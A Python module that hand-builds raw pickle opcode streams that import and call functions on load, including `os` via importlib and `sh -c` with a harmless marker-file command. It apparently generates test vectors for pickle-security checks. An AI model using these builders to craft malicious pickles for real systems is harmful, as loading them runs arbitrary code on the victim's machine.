"""Instructions of pickles that import and call. `vectors.py` and `gadgets.py` make files of them."""

import pickle
import struct

COMMAND = "echo > marker"
"""A command that creates the file `marker`, and Python code that does."""

CODE = "open('marker', 'w').close()"

SHELL = ["sh", "-c", COMMAND]

STOP = b"."


def data(value):
    """Returns the instructions that push a plain value."""
    return pickle.dumps(value, 2)[2:-1]


def name(module, attribute):
    return data(module) + data(attribute) + b"\x93"


def named(function):
    """Returns the instructions that import `module:name`; instructions stay as they are."""
    return name(*function.split(":")) if isinstance(function, str) else function


def call(function, *arguments):
    """Returns the instructions of a call. Functions are instructions or `module:name`; arguments instructions or values."""
    return named(function) + b"(" + b"".join(map(pushed, arguments)) + b"tR"


def pushed(argument):
    return argument if isinstance(argument, bytes) else data(argument)


def whole(instructions, protocol=4):
    return b"\x80" + bytes([protocol]) + instructions + STOP


def bytes_of(value):
    """Returns the instructions that push bytes; `data` would call an encoder."""
    return b"B" + struct.pack("<I", len(value)) + value


def items(*values):
    """Returns the instructions that push a list."""
    return b"](" + b"".join(map(pushed, values)) + b"e"


def dict_of(**values):
    """Returns the instructions that push a dict."""
    return b"}(" + b"".join(data(key) + pushed(value) for key, value in values.items()) + b"u"


def with_state(instance, **attributes):
    """Returns the instructions that set attributes of an object."""
    return instance + dict_of(**attributes) + b"b"


def methods(instance, *calls):
    """Returns the instructions that call functions one after another, each with the same object first."""
    made = instance + b"q\x63"
    return made + b"".join(b"0" + call(function, b"h\x63", *arguments) for function, *arguments in calls)


def import_os():
    return call("importlib:import_module", "os")
